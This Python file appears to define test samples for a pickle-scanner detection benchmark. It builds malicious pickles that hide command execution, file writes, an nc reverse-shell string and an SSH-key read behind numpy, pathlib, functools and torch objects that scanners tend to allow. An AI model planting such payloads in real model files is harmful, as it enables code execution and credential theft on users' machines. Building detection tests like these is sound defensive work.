"""Attacks that hide behind what honest files are excused for: methods kept, arrays, classes, and what isn't printed."""

from __future__ import annotations

from bench.detection.build.pickled import built, caught, made, made_with, stored
from bench.detection.sample import Sample
from tests.malicious.pickles import Opcodes, call, called, named

_SOURCE = "our own look for holes in the rules that excuse"
_PATH = named("pathlib", "PosixPath")
_VERSION = named("torch.torch_version", "TorchVersion")
_PICKLE = b"cposix\nsystem\n(Vid\ntR."


def _numbers(kind: str = "ndarray") -> Opcodes:
    dtype = built(call("numpy", "dtype", "i8", False, True), (3, "<", None, None, None, -1, -1, 0))
    empty = call("numpy.core.multiarray", "_reconstruct", named("numpy", kind), (0,), b"b")
    return built(empty, (1, (1,), dtype, False, b"\1" + bytes(7)))


def _words(*items: str) -> Opcodes:
    dtype = built(call("numpy", "dtype", "O8", False, True), (3, "|", None, None, None, -1, -1, 63))
    empty = call("numpy.core.multiarray", "_reconstruct", named("numpy", "ndarray"), (0,), b"b")
    return built(empty, (1, (len(items),), dtype, False, list(items)))


def _looked_up(action: Opcodes) -> Opcodes:
    """Called as soon as numpy walks through the list, deeper than anything is printed."""
    table = stored(call("collections", "defaultdict", action), 1, 1)
    return call("numpy", "array", [[[built(made(named("collections", "UserList")), {"data": table})]]])


def _bound(callee: Opcodes, *args: object) -> Opcodes:
    return call("functools", "partial", callee, *args)


def _method(name: str) -> Opcodes:
    return call("builtins", "getattr", _PATH, name)


_TARGET = call("pathlib", "PosixPath", "/tmp/owned")
_PAYLOADS = (
    ("excused_method", "a method that writes, called by a look-up", _looked_up(_bound(_method("touch"), _TARGET))),
    ("excused_kept_method", "a method that writes, kept", _method("write_bytes")),
    (
        "excused_methodcaller",
        "a method by its name, called by a look-up",
        _looked_up(_bound(call("operator", "methodcaller", "rename", "owned"), _TARGET)),
    ),
    ("excused_unknown", "an unknown function, called by a look-up", _looked_up(_bound(named("six", "exec_"), "1"))),
    (
        "excused_mapped",
        "a mapped array's class as what opens a file",
        Opcodes(
            b"("
            + _numbers("memmap")
            + _looked_up(_bound(named("numpy", "memmap"), "/tmp/owned", "uint8", "w+", 0, (16,)))
            + b"t"
        ),
    ),
    (
        "excused_beside_mapped",
        "a pickle that calls beside a mapped array",
        Opcodes(b"(" + _numbers("memmap") + b"C" + bytes([len(_PICKLE)]) + _PICKLE + b"t"),
    ),
    (
        "excused_keywords",
        "a program given by keyword, beside an array",
        call("six", "exec_", made_with(_VERSION, (), {"object": "print(1)"}), None, _numbers()),
    ),
    (
        "excused_listed",
        "a command of objects in a list",
        call("moviepy.tools", "subprocess_call", [call("pathlib", "PosixPath", "/usr/bin/id"), _TARGET]),
    ),
    ("excused_words", "a command in an array", call("moviepy.tools", "subprocess_call", _words("id", "-u"))),
    ("excused_class", "a command in an array, to a class", call("acme", "Runner", _words("sh", "-c", "id"))),
    ("excused_hidden", "a word that isn't printed", call("acme", "Loader", [1, 2, 3, 4, 5, 6, 7, 8, "evil.pkl"])),
    ("excused_key", "a command as a key", call("acme", "Loader", {"nc 203.0.113.7 4444": 1})),
    (
        "excused_packed",
        "source behind what is no text",
        call("acme", "Loader", b"\0" * 80 + b"import os; os.system('id')"),
    ),
    (
        "excused_batch",
        "what makes a batch's class, given another",
        called(
            call("torch_geometric.data.batch", "DynamicInheritanceGetter"),
            named("acme", "Runner"),
            named("torch_geometric.data.data", "Data"),
        ),
    ),
    (
        "excused_image",
        "an image reader that is handed paths",
        call("acme", "Images", call("builtins", "map", named("PIL.Image", "open"), ["/home/user/.ssh/id_rsa"])),
    ),
    (
        "excused_metaclass",
        "a class of torch that makes classes",
        made(named("torch.nn.parameter", "_ParameterMeta"), "X", (), {}),
    ),
    ("excused_through", "io, through a package that is absent", call("six", "io.FileIO", "owned", "w")),
)

_CAUGHT: tuple[tuple[str, str, str], ...] = (
    ("global.result.called", "", "excused_batch"),
    ("global.applier.called global.unknown.called", "", "excused_image"),
    ("global.unknown.surveyed", "", "excused_metaclass"),
    (
        "global.constructor.walks global.dangerous.kept oddity.factory",
        "",
        "excused_method excused_unknown",
    ),
    (
        "global.dangerous.passed",
        "",
        "excused_kept_method",
    ),
    (
        "global.applier.called global.constructor.walks oddity.factory",
        "",
        "excused_methodcaller",
    ),
    (
        "global.constructor.walks global.dangerous.kept oddity.factory oddity.handed",
        "",
        "excused_mapped",
    ),
    (
        "text.pickle.dangerous",
        "",
        "excused_beside_mapped",
    ),
    (
        "global.dangerous.called",
        "",
        "excused_keywords excused_listed excused_words excused_through",
    ),
    (
        "global.unknown.called",
        "",
        "excused_class excused_hidden excused_key excused_packed",
    ),
)

SAMPLES: tuple[Sample, ...] = caught(tuple((name, told, _SOURCE, body) for name, told, body in _PAYLOADS), _CAUGHT)
